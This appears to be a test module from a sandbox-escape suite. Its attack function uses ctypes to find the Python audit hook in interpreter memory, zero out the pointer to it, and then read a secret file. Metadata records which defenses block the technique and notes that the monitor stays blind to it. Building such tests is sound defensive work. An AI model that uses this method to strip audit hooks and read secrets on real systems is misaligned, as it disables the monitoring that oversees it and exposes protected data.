"""Cut the audit hook out of the interpreter's list, in memory, then open the secret."""

import ctypes

from tests.escape.grants import read_secret
from tests.escape.technique import Granted, Technique, silent


def attack(world):
    runtime = ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, "_PyRuntime"))
    native = [(start, end) for start, end, path in world.executable_ranges() if b"_native" in path]
    heap = world.libc.sbrk
    heap.restype = ctypes.c_long
    top = heap(0)
    seen = ctypes.create_string_buffer(1)
    for word in range(0, 2048 * 8, 8):
        pointer = ctypes.c_ulong.from_address(runtime + word).value
        if not top - (64 << 20) < pointer < top - 24 or pointer % 8:
            continue
        if world.libc.mincore(ctypes.c_void_p(pointer & ~4095), ctypes.c_size_t(4096), seen):
            continue  # nothing is mapped there
        callback = ctypes.c_ulong.from_address(pointer + 8).value
        if any(start <= callback < end for start, end in native):
            ctypes.c_ulong.from_address(runtime + word).value = 0
            print("the hook is gone")
    world.loot(open(world.secret).read())


TECHNIQUE = Technique(
    source="PEP 578; CTF write-ups that clear audit_hook_head by ctypes",
    event=("fs.read",),
    stops=("root view", "landlock"),
    control=Granted(read_secret),
    thread=silent("the listener watches no files of a sandbox thread, and Landlock tells only that it refused"),
)
